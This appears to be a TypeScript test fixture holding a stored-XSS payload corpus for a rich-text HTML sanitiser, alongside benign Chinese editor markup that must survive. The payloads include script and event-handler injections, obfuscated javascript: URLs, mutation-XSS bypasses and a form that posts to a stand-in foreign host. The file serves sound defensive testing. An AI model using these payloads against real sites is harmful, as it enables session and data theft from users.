/**
 * The stored-XSS corpus of security case 15, shared by the sanitiser's unit test
 * (src/lib/sanitize-html.test.ts) and the browser test (e2e/tests/rich-text-xss.e2e.ts), so the
 * server's allow-list and Chromium judge the same payloads. Test-only: nothing in the server imports it.
 *
 * Every payload that manages to run calls the global {@link XSS_HOOK} with its own name (the browser
 * test exposes that function in every frame); payloads that would load or navigate point at
 * {@link XSS_FOREIGN_HOST}, so any request there is a leak too.
 */

/** The global function a payload calls when it runs. */
export const XSS_HOOK = '__xss';
/** The foreign host payloads load from or navigate to (`.invalid`: never resolves). */
export const XSS_FOREIGN_HOST = 'xss.invalid';

export interface XssPayload {
  /** Unique; also the marker the payload reports when it runs. */
  readonly name: string;
  readonly html: string;
}

const FOREIGN = `https://${XSS_FOREIGN_HOST}`;
/** The script a payload runs: reports its name. Single quotes, so it fits double-quoted attributes. */
const hit = (name: string) => `${XSS_HOOK}('${name}')`;

/** Each entry: name and the hostile HTML; `js(name)` in a URL is the javascript: form reporting `name`. */
const entries: Array<[string, (name: string) => string]> = [
  ['script', (n) => `<script>${hit(n)}</script>`],
  ['script-src', () => `<script src="${FOREIGN}/x.js"></script>`],
  ['img-onerror', (n) => `<img src=x onerror="${hit(n)}">`],
  ['img-javascript-src', (n) => `<img src="javascript:${hit(n)}">`],
  [
    'img-data-src',
    () => `<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=">`,
  ],
  ['img-foreign', () => `<img src="${FOREIGN}/pixel.png" alt="pixel">`],
  ['img-srcset', () => `<img src="/favicon.ico" srcset="${FOREIGN}/srcset.png 1x" alt="srcset">`],
  ['svg-onload', (n) => `<svg onload="${hit(n)}"></svg>`],
  ['svg-script', (n) => `<svg><script>${hit(n)}</script></svg>`],
  ['svg-animate', (n) => `<svg><animate onbegin="${hit(n)}" attributeName="x" dur="1s"></animate></svg>`],
  ['svg-xlink', (n) => `<svg><a xlink:href="javascript:${hit(n)}"><text x="10" y="20">svg-link</text></a></svg>`],
  ['svg-style-mutation', (n) => `<svg></p><style><a id="</style><img src=1 onerror=${hit(n)}>"></svg>`],
  ['a-javascript', (n) => `<a href="javascript:${hit(n)}">a-javascript</a>`],
  ['a-javascript-case', (n) => `<a href="JaVaScRiPt:${hit(n)}">a-javascript-case</a>`],
  ['a-javascript-colon-entity', (n) => `<a href="javascript&colon;${hit(n)}">a-javascript-colon-entity</a>`],
  ['a-javascript-numeric-entity', (n) => `<a href="&#106;&#x61;vascript:${hit(n)}">a-javascript-numeric-entity</a>`],
  ['a-javascript-tab', (n) => `<a href="jav&#x09;ascript:${hit(n)}">a-javascript-tab</a>`],
  ['a-javascript-leading-space', (n) => `<a href=" &#x01;&#x0e;&#x20; javascript:${hit(n)}">a-javascript-leading</a>`],
  ['a-vbscript', () => `<a href="vbscript:msgbox(1)">a-vbscript</a>`],
  ['a-data', (n) => `<a href="data:text/html,<script>${hit(n)}</script>">a-data</a>`],
  ['a-protocol-relative', () => `<a href="//${XSS_FOREIGN_HOST}/phish">a-protocol-relative</a>`],
  ['a-onclick', (n) => `<a onclick="${hit(n)}" onmouseover="${hit(n)}">a-onclick</a>`],
  [
    'a-title-breakout',
    (n) =>
      `<a title='"><img src=x onerror=${hit(n).replaceAll("'", '&#39;')}>' href="/policySearch">a-title-breakout</a>`,
  ],
  ['p-onclick', (n) => `<p class="text-center" onclick="${hit(n)}">p-onclick</p>`],
  ['iframe-srcdoc', (n) => `<iframe srcdoc="<script>${hit(n)}</script>"></iframe>`],
  ['iframe-javascript', (n) => `<iframe src="javascript:${hit(n)}"></iframe>`],
  ['xmp-mutation', (n) => `<xmp><img src=x onerror="${hit(n)}"></xmp>`],
  ['noscript-mutation', (n) => `<noscript><p title="</noscript><img src=x onerror=${hit(n)}>"></p></noscript>`],
  ['style-import', () => `<style>@import '${FOREIGN}/import.css';</style>`],
  ['style-url-javascript', (n) => `<style>body{background:url("javascript:${hit(n)}")}</style>`],
  ['style-attribute-url', () => `<p style="background:url(//${XSS_FOREIGN_HOST}/bg.png)">style-attribute-url</p>`],
  ['link-stylesheet', () => `<link rel="stylesheet" href="${FOREIGN}/x.css">`],
  [
    'math-mglyph-style',
    (n) => `<math><mtext><table><mglyph><style><img src=x onerror="${hit(n)}"></style></mglyph></table></mtext></math>`,
  ],
  [
    'math-mglyph-comment',
    (n) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${hit(n)}&gt;"></style></mglyph></table></mtext></math>`,
  ],
  ['base-href', () => `<base href="${FOREIGN}/">`],
  ['form-action', (n) => `<form action="javascript:${hit(n)}"><button>form-action</button></form>`],
  ['button-formaction', (n) => `<form><button formaction="javascript:${hit(n)}">button-formaction</button></form>`],
  [
    'form-foreign',
    () => `<form action="${FOREIGN}/steal" method="post"><input name="q"><button>form-foreign</button></form>`,
  ],
  ['object-javascript', (n) => `<object data="javascript:${hit(n)}"></object>`],
  ['object-data', (n) => `<object data="data:text/html,<script>${hit(n)}</script>"></object>`],
  ['embed-javascript', (n) => `<embed src="javascript:${hit(n)}">`],
  ['meta-refresh', () => `<meta http-equiv="refresh" content="0;url=${FOREIGN}/meta">`],
  [
    'details-ontoggle',
    (n) => `<details open ontoggle="${hit(n)}"><summary>details</summary>details-ontoggle</details>`,
  ],
  ['input-autofocus', (n) => `<input autofocus onfocus="${hit(n)}">`],
  ['video-onerror', (n) => `<video><source onerror="${hit(n)}"></video>`],
  ['comment-bang', (n) => `<!-- --!><img src=x onerror="${hit(n)}"> -->`],
  ['svg-cdata', (n) => `<svg><![CDATA[><img src=x onerror="${hit(n)}">]]></svg>`],
];

/** Every hostile payload of the corpus. */
export const XSS_PAYLOADS: readonly XssPayload[] = entries.map(([name, html]) => ({ name, html: html(name) }));

/** Text that opens and closes the corpus body; both must stay visible on every page. */
export const BENIGN_FIRST_TEXT = '安全测试正文开始';
export const BENIGN_LAST_TEXT = '安全测试正文结束';

/**
 * Ordinary editor markup that must survive sanitising: headings, formatting, lists, a table,
 * http(s), portal and mail links, and an uploaded image (`imageUrl`: `/api/files/<id>`).
 */
export function benignHtml(imageUrl: string): string {
  return (
    `<h2>${BENIGN_FIRST_TEXT}</h2>` +
    '<p class="text-center">为鼓励<strong>发明创造</strong>，<em>制定</em>本办法。</p>' +
    '<h3>申报条件</h3><ul><li>列表项一</li><li>列表项二</li></ul><ol start="3"><li>第三项</li></ol>' +
    '<table><thead><tr><th scope="col">项目</th><th scope="col">金额</th></tr></thead>' +
    '<tbody><tr><td>发明专利</td><td>5000 元</td></tr></tbody></table>' +
    '<p><a href="https://www.cnipa.gov.cn/">国家知识产权局</a> <a href="/policySearch">政策查询</a> ' +
    '<a href="mailto:ip@demo.local">来信咨询</a></p>' +
    `<p><img src="${imageUrl}" alt="示意图"></p>` +
    '<blockquote>引用的条文</blockquote>'
  );
}

/** The whole corpus as one rich-text body: benign markup, every payload, a closing paragraph. */
export function xssCorpusBody(imageUrl: string): string {
  return `${benignHtml(imageUrl)}${XSS_PAYLOADS.map((payload) => payload.html).join('')}<p>${BENIGN_LAST_TEXT}</p>`;
}
